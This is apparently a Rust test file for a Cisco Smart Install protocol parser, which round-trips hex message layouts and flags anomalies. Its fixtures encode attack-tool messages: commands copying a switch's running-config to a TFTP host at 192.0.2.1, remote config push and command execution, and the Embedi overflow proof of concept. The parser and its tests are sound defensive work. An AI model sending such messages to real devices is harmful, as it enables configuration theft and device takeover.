//! Every documented layout (smart-install.md §3.1–§3.8) as hex, decoded into its typed message
//! and re-encoded from the typed constructors byte for byte. Addresses follow the spec's
//! examples: tool/TFTP host 192.0.2.1, target 192.0.2.2.

use super::*;

const PROBE: &str = "00000001 00000001 00000004 00000008 00000001 00000000";
const PROBE_REPLY: &str = "00000004 00000000 00000003 00000008 00000001 00000000";
const SHORT_PROBE: &str = "00000001 00000001 00000003 00000001 00";
const STATUS_REPLY: &str = "00000004 00000000 00000004 00000004 00000001";

/// §3.4: the fixed prefix up to offset 36, the reload block (flag, HH, MM), then the two
/// 132-byte slots.
fn config_push_hex(reload: &str, url: &str) -> String {
    format!(
        "00000001 00000001 00000003 00000128 00000003 00000000 00000000 00000002 00000000 \
         {reload} {} {}",
        "00".repeat(132),
        padded(url, 132)
    )
}

/// SIET change_config with HH=01, MM=02 (the spec's fixed prefix hex).
const RELOAD_0102: &str = "00000001 00000001 00000002";

/// §3.5: the 40-byte prefix shared by SIET, NSE and Metasploit, then three 336-byte slots.
fn copy_commands_hex(commands: [&str; 3]) -> String {
    let slots: Vec<String> = commands.iter().map(|c| padded(c, 336)).collect();
    format!(
        "00000001000000010000000800000408000100140000000100000000fc99473786600000000303f4 {}",
        slots.concat()
    )
}

/// §3.6 immediate (reload now) prefix, the 415-byte image-list URL and the 0x01 trailer.
fn image_upgrade_immediate_hex(url: &str) -> String {
    format!(
        "000000010000000100000002000001c4 00000002 00000821 00000000 00000000 00000001 \
         00000000 00000000 00000000 00000001 {} 01",
        padded(url, 415)
    )
}

/// §3.7: header with w0 = 2, word 1, slots of 128 and 264 zeros, the 131-byte URL, trailer.
fn execute_hex(url: &str) -> String {
    format!(
        "00000002 00000001 00000005 00000210 00000001 {} {} {} 01",
        "00".repeat(128),
        "00".repeat(264),
        padded(url, 131)
    )
}

/// §3.8: the Embedi PoC, 2288 bytes, header length 0xd8.
pub(super) fn poc_hex() -> String {
    format!(
        "00000001 00000001 00000007 000000d8 00000001 000000d8 {} 000008d8 {} {}",
        "41".repeat(36),
        "42".repeat(176),
        "44".repeat(2048)
    )
}

#[test]
fn probe_and_replies_decode_and_encode() {
    let cases = [
        (PROBE, Message::new(Body::Probe(Probe::HELLO)), Kind::Probe),
        (
            PROBE_REPLY,
            Message::new(Body::ProbeReply(ProbeReply::HELLO)),
            Kind::ProbeReply,
        ),
        (
            SHORT_PROBE,
            Message::new(Body::Probe(Probe::SHORT)),
            Kind::Probe,
        ),
        (
            STATUS_REPLY,
            Message::new(Body::ProbeReply(ProbeReply::STATUS)),
            Kind::ProbeReply,
        ),
    ];
    for (text, message, kind) in cases {
        let bytes = hex(text);
        assert_eq!(decode_one(&bytes), message, "{text}");
        assert_eq!(message.encode().unwrap(), bytes, "{text}");
        assert_eq!(message.kind(), kind);
        assert_eq!(message.direction(), kind.documented_direction());
        assert!(message.urls().is_empty() && message.commands().is_empty());
    }
    assert_eq!(hex(PROBE).len(), 24);
    assert_eq!(hex(SHORT_PROBE).len(), 17);
    assert_eq!(hex(STATUS_REPLY).len(), 20);
}

#[test]
fn config_push_with_reload_matches_siet_change_config() {
    let url = "tftp://192.0.2.1/192.0.2.2.conf";
    let bytes = hex(&config_push_hex(RELOAD_0102, url));
    assert_eq!(bytes.len(), 312);
    let message = decode_one(&bytes);
    let Body::ConfigPush(push) = &message.body else {
        panic!("{message:?}")
    };
    assert_eq!(push.reload.scheduled(), Some((1, 2)));
    assert_eq!(push.url.text(), url);
    assert!(push.name_slot.is_empty());
    let built = ConfigPush::new(url.as_bytes(), ReloadSchedule::at(1, 2).unwrap()).unwrap();
    assert_eq!(
        Message::new(Body::ConfigPush(built)).encode().unwrap(),
        bytes
    );
    let urls = message.urls();
    assert_eq!(urls.len(), 1);
    assert_eq!(urls[0].field, "config_url");
    let parsed = urls[0].parsed.unwrap();
    assert_eq!(
        (parsed.scheme, parsed.host, parsed.path),
        ("tftp", "192.0.2.1", "/192.0.2.2.conf")
    );
    assert_eq!(message.hosts(), ["192.0.2.1"]);
    assert_eq!(message.kind().as_str(), "config_push");
    assert!(message.findings().is_empty());
}

#[test]
fn legacy_test_mode_has_no_reload() {
    let legacy = config_push_hex("00000000 00000000 00000000", "tftp://192.0.2.1/random_file");
    let message = decode_one(&hex(&legacy));
    let Body::ConfigPush(push) = &message.body else {
        panic!()
    };
    assert_eq!(push.reload, ReloadSchedule::none());
    let built = ConfigPush::new(b"tftp://192.0.2.1/random_file", ReloadSchedule::none());
    assert_eq!(
        Message::new(Body::ConfigPush(built.unwrap()))
            .encode()
            .unwrap(),
        hex(&legacy)
    );
}

#[test]
fn copy_commands_match_siet_msf_and_nse() {
    let siet = [
        "copy system:running-config flash:/config.text",
        "copy flash:/config.text tftp://192.0.2.1/192.0.2.2.conf",
        "",
    ];
    let bytes = hex(&copy_commands_hex(siet));
    assert_eq!(bytes.len(), 1048);
    let message = decode_one(&bytes);
    let commands: Vec<_> = message
        .commands()
        .iter()
        .map(|c| c.text().into_owned())
        .collect();
    assert_eq!(commands, siet[..2]);
    assert_eq!(message.commands()[1].field, "command_2");
    let urls = message.urls();
    assert_eq!(urls.len(), 1, "local file systems are not URLs");
    assert_eq!(
        (urls[0].field, urls[0].host()),
        ("command_2", Some("192.0.2.1"))
    );
    let Body::CopyCommands(copy) = &message.body else {
        panic!()
    };
    assert_eq!(copy.mac(), [0xfc, 0x99, 0x47, 0x37, 0x86, 0x60]);
    let built = CopyCommands::new(&siet[..2]).unwrap();
    assert_eq!(
        Message::new(Body::CopyCommands(built)).encode().unwrap(),
        bytes
    );

    // NSE: command 2 padded to 672 bytes fills slots 2 and 3 — the same bytes.
    let nse = format!(
        "00000001000000010000000800000408000100140000000100000000fc99473786600000000303f4 {} {}",
        padded(siet[0], 336),
        padded(siet[1], 672)
    );
    assert_eq!(hex(&nse), bytes);

    let msf = hex(&copy_commands_hex([
        "copy system:running-config tftp://192.0.2.1/abcdefgh",
        "",
        "",
    ]));
    assert_eq!(decode_one(&msf).hosts(), ["192.0.2.1"]);
}

#[test]
fn image_upgrade_immediate_and_scheduled() {
    let url = "tftp://192.0.2.1/tar_imglist0.txt";
    let immediate = hex(&image_upgrade_immediate_hex(url));
    assert_eq!(immediate.len(), 468);
    let message = decode_one(&immediate);
    let Body::ImageUpgrade(upgrade) = &message.body else {
        panic!()
    };
    assert_eq!(upgrade.timing(), Some(UpgradeTiming::Immediate));
    assert_eq!(message.urls()[0].field, "image_list_url");
    let built = ImageUpgrade::new(url.as_bytes(), UpgradeTiming::Immediate).unwrap();
    assert_eq!(
        Message::new(Body::ImageUpgrade(built)).encode().unwrap(),
        immediate
    );

    let scheduled = hex(&format!(
        "000000010000000100000002000001c4 00000002 00000801 00000000 00000000 00000000 \
         00000001 00000001 00000002 00000001 {} 01",
        padded(url, 415)
    ));
    let at = UpgradeTiming::At { hour: 1, minute: 2 };
    let built = ImageUpgrade::new(url.as_bytes(), at).unwrap();
    assert_eq!(
        Message::new(Body::ImageUpgrade(built)).encode().unwrap(),
        scheduled
    );
    let Body::ImageUpgrade(upgrade) = decode_one(&scheduled).body else {
        panic!()
    };
    assert_eq!(upgrade.timing(), Some(at));
}

#[test]
fn execute_uses_w0_2() {
    let url = "tftp://192.0.2.1/commands.txt";
    let bytes = hex(&execute_hex(url));
    assert_eq!(bytes.len(), 544);
    let message = decode_one(&bytes);
    assert_eq!(
        (message.w0, message.w1, message.kind()),
        (2, 1, Kind::Execute)
    );
    assert_eq!(message.direction(), Direction::DirectorToClient);
    assert_eq!(message.urls()[0].field, "command_file_url");
    assert_eq!(message.hosts(), ["192.0.2.1"]);
    let built = Execute::new(url.as_bytes()).unwrap();
    assert_eq!(Message::new(Body::Execute(built)).encode().unwrap(), bytes);
}

#[test]
fn init_discovery_tlvs_decode_and_encode() {
    let bytes =
        hex("00000001 00000001 00000007 00000014 00000001 00000004 41424344 00000002 00000000");
    let message = decode_one(&bytes);
    let Body::InitDiscovery(d) = &message.body else {
        panic!()
    };
    assert_eq!(d.tlvs.len(), 2);
    assert_eq!(d.tlv(1).unwrap().value, b"ABCD");
    assert_eq!(d.tlv(2).unwrap().value, b"");
    assert_eq!(d.tail, None);
    assert!(message.findings().is_empty());
    assert_eq!(message.encode().unwrap(), bytes);
}

#[test]
fn poc_framed_by_its_header_is_a_tlv_overrun_then_an_oversized_header() {
    let bytes = hex(&poc_hex());
    assert_eq!(bytes.len(), 2288);
    let decoding = decode_all(&bytes, Limits::default());
    assert_eq!(decoding.frames.len(), 1);
    let frame = &decoding.frames[0];
    assert_eq!(
        (frame.raw.len(), frame.message.kind()),
        (232, Kind::InitDiscovery)
    );
    assert_eq!(
        frame.message.findings(),
        [Finding::TlvOverrun {
            offset: 16,
            tlv_type: 1,
            declared_len: 0xd8,
            available: 208
        }]
    );
    assert_eq!(
        decoding.error,
        Some(DecodeError::Oversized {
            offset: 232,
            declared_length: 0x4444_4444,
            limit: 2048
        })
    );
}

#[test]
fn unknown_types_are_kept_verbatim() {
    let bytes = hex("00000001 00000001 00000006 00000003 010203");
    let message = decode_one(&bytes);
    assert_eq!(
        message.body,
        Body::Unknown {
            msg_type: 6,
            payload: vec![1, 2, 3]
        }
    );
    assert_eq!(message.kind().as_str(), "unknown");
    assert_eq!(message.encode().unwrap(), bytes);
}

#[test]
fn slot_anomalies_are_findings() {
    let mut bytes = hex(&config_push_hex(RELOAD_0102, "tftp://192.0.2.1/a"));
    bytes[48] = b'x'; // name slot: value "x"
    bytes[60] = b'y'; // …and a byte hidden after its NUL
    bytes[180..312].fill(b'u'); // config URL without terminator
    bytes[181] = 0xff;
    let message = decode_one(&bytes);
    assert_eq!(
        message.findings(),
        [
            Finding::DataAfterNul { field: "name_slot" },
            Finding::Unterminated {
                field: "config_url"
            },
            Finding::NonUtf8 {
                field: "config_url"
            },
        ]
    );
    let urls = message.urls();
    assert_eq!(
        urls[0].field, "name_slot",
        "unknown slots with content are reported"
    );
    assert_eq!(urls[0].text(), "x");
    assert_eq!(urls[1].bytes.len(), 132);
    assert_eq!(
        message.encode().unwrap(),
        bytes,
        "anomalies survive a round trip"
    );
}
